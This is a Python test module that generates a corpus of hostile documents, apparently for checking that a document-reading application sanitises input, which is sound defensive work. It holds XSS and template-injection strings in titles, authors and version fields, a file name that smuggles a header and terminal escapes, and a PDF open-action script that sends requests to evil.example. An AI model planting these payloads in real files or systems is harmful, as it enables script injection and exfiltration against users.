"""A clinic's folder of hostile files: the same payloads in every format that is read.

They stand in headings, paragraphs and cells, in titles, versions and authors, and in file names.
In `WRITTEN` a file's text are the payloads themselves, in `MARKUP` they are the file's own markup.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from html import escape
from pathlib import Path

from tests import pdfs, word_files
from tests.attacks.payloads import MARK, PAYLOADS, RUN
from tests.mixed_corpus import KINDS

__all__ = ["LINES", "MARKUP", "ODD_PDF", "TITLE", "VERSION", "WRITTEN", "write_hostile_corpus"]

LINES = tuple(" ".join(one.split()) for one in PAYLOADS)
"""The payloads, each on one line, as a paragraph of any format can hold it."""
# A PDF's title with a slash in it would count as a file's name.
TITLE = "<img src=x onerror=window.pwned=1> {{ 7*7 }} [t](javascript:window.pwned=1) \u202edesrever"
VERSION = f'"><script>{RUN}</script>'
_AUTHOR = f"<img src=/{MARK} onerror={RUN}>"
_NAME = "leaflets/<img src=x onerror='window.pwned=1'> & \"{{7}}\" of "
ODD_PDF = "a\rX-Evil: y; \x1b[2J\u202e\"'.pdf"
"""A header of its own, if it stood as it is where a file's name is told."""
_SECTIONS = [(one, [one]) for one in LINES]
_CREATED = f"<dc:title>{escape(TITLE)}</dc:title><dc:creator>{escape(_AUTHOR)}</dc:creator>"
_CATALOGUE = ("pdf", "csv", "epub", "txt")
"""Formats that have no version of their own: the catalogue gives them one."""


def _markdown() -> bytes:
    def text(line: str) -> str:
        return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", line)

    body = KINDS["markdown"][1](text(TITLE), [(text(one), [text(one)]) for one in LINES])
    version = VERSION.replace("'", "''")
    return body.replace(b"---\n", f"---\nversion: '{version}'\n".encode(), 1)


def _plain() -> bytes:
    # Without a full stop short lines would be headings.
    return "\n\n".join([TITLE, "Before you come", *(f"{one}." for one in LINES)]).encode()


def _word() -> bytes:
    def styled(style: str, text: str) -> str:
        return word_files.styled(style, word_files.run(text))

    cells = [word_files.paragraph(word_files.run(one)) for one in LINES[:6]]
    body = styled("Titel", TITLE) + word_files.table(cells[:3], cells[3:], head=True)
    body += "".join(styled("berschrift1", one) + styled("Normal", one) for one in LINES)
    version = f'<property name="Version"><vt:lpwstr>{escape(VERSION)}</vt:lpwstr></property>'
    return word_files.word(body, core=_CREATED, custom=version)


def _open_document() -> bytes:
    body = "".join(
        f'<text:h text:outline-level="1">{escape(one)}</text:h><text:p>{escape(one)}</text:p>'
        for one in LINES
    )
    version = f'<meta:user-defined meta:name="Version">{escape(VERSION)}</meta:user-defined>'
    return word_files.odt(body, meta=_CREATED + version)


def _web_page() -> bytes:
    told = f'<meta name="version" content="{escape(VERSION)}">'
    told += f'<meta name="author" content="{escape(_AUTHOR)}">'
    return KINDS["web page"][1](TITLE, _SECTIONS).replace(b"<head>", f"<head>{told}".encode(), 1)


def _book() -> bytes:
    made = KINDS["book"][1](TITLE, _SECTIONS)
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        package = archive.read("book.opf").decode()
    told = f"<dc:creator>{escape(_AUTHOR)}</dc:creator></metadata>"
    return word_files.with_parts(made, {"book.opf": package.replace("</metadata>", told)})


def _pairs() -> bytes:
    return KINDS["pairs"][1](TITLE, [(f"{one} ?", [one]) for one in LINES])


def _pdf() -> bytes:
    """Pages so wide that each payload has one line; the file has a script and links of its own."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    sheet = pdfs.Sheet((1_400, 842))
    sheet.canvas.setTitle(TITLE)
    sheet.canvas.setAuthor(_AUTHOR)
    for number, line in enumerate(LINES):
        if number and not number % 12:
            sheet.turn_page()
        y = 60.0 + 64 * (number % 12)
        sheet.use("Helvetica-Bold", 14).put(60, y, line).use(size=9).put(60, y + 24, line)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(sheet.bytes())))
    elsewhere = f"http://evil.example/{MARK}"
    leaving = ("app.launchURL", "this.getURL", "this.submitForm", "fetch", "location.assign")
    tries = "".join(f"try{{{one}('{elsewhere}')}}catch(e){{}};" for one in leaving)
    writer.add_open_action(JavaScript(f"{tries}app.alert('ran');"))
    writer.add_uri(0, elsewhere, (0, 0, 1_400, 842))
    return pdfs.written(writer)


# All behind the beginning of a formula that never ends is taken for a part of it.
_BARE_PAYLOADS = sorted(PAYLOADS, key=lambda one: one.startswith("<math>"))
_BARE = "".join(f"<h2>About {one}</h2>\n<p>Text. {one}</p>\n\n" for one in _BARE_PAYLOADS)


def _bare_markdown() -> bytes:
    return "\n\n".join(f"## About {one}\n\nText. {one}" for one in _BARE_PAYLOADS).encode()


def _bare_page() -> bytes:
    return f"<title>{TITLE}</title><main>{_BARE}<p>The end.</p></main>".encode()


def _bare_book() -> bytes:
    chapter = f"<html><body>{_BARE}<p>The end.</p></body></html>"
    return word_files.with_parts(KINDS["book"][1](TITLE, [("Any", [])]), {"0.xhtml": chapter})


_MAKERS: dict[str, Callable[[], bytes]] = {
    "md": _markdown,
    "txt": _plain,
    "docx": _word,
    "odt": _open_document,
    "html": _web_page,
    "epub": _book,
    "csv": _pairs,
    "pdf": _pdf,
}
WRITTEN = {f"{_NAME}{suffix}.{suffix}": make for suffix, make in _MAKERS.items()} | {ODD_PDF: _pdf}
"""A document's id → what makes its file."""
MARKUP = {
    f"{_NAME}markup.md": _bare_markdown,
    f"{_NAME}markup.html": _bare_page,
    f"{_NAME}markup.epub": _bare_book,
}


def write_hostile_corpus(folder: Path) -> None:
    """Writes the files of both, and a catalogue."""
    for name, make in (WRITTEN | MARKUP).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(make())
    catalogue = io.StringIO(newline="")
    rows = csv.writer(catalogue)
    rows.writerow(("file", "title", "version"))
    for suffix in _CATALOGUE:
        rows.writerow((f"{_NAME}{suffix}.{suffix}", "" if suffix == "pdf" else TITLE, VERSION))
    (folder / "catalogue.csv").write_text(catalogue.getvalue(), "utf-8", newline="")
